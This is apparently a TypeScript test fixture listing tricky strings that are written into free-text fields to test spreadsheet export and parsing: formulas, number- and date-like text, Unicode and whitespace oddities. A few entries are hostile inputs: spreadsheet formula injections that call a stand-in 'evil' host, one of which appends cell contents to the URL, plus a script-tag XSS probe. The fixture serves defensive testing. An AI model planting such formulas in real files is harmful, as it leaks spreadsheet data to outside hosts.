/**
 * Texts that spreadsheets, parsers and careless code get wrong: formulas, numbers that are not numbers, dates that are
 * not dates, and characters that need care. The servers write them into every free-text field, each at least once.
 */
export const hostileTexts: readonly string[] = [
  '=1+1',
  '=IMPORTXML("http://evil")',
  '=HYPERLINK("http://evil.example/?"&A1;"cliquez")',
  '+33612345678',
  '-abc',
  '@cmd',
  '007',
  '0612345678',
  '1/2',
  '2026-02-30',
  'TRUE',
  'FAUX',
  '1234567890123456789',
  '10%',
  '1E5',
  '1,5',
  '12:30',
  '5 €',
  "'007",
  "'=1+1",
  '"entre guillemets"',
  'a;b,c|d',
  'Rappelé 👩‍🏫 puis 🎉',
  'é\u0301crit en NFD',
  'ligne 1\nligne 2\r\nligne 3',
  'colonne 1\tcolonne 2',
  ' espaces autour ',
  'espace\u00a0insécable et \u200bzéro',
  '<b>gras</b> &amp; <script>alert(1)</script>',
  '{"json":true}',
  '[object Object]',
  'null',
  '#REF!',
  '\\n n’est pas une ligne',
];

/** A text longer than a cell can hold (50,000 characters; support.google.com, Files you can store in Google Drive). */
export function longText(): string {
  return 'Compte rendu très long. '.repeat(2200) + 'FIN';
}
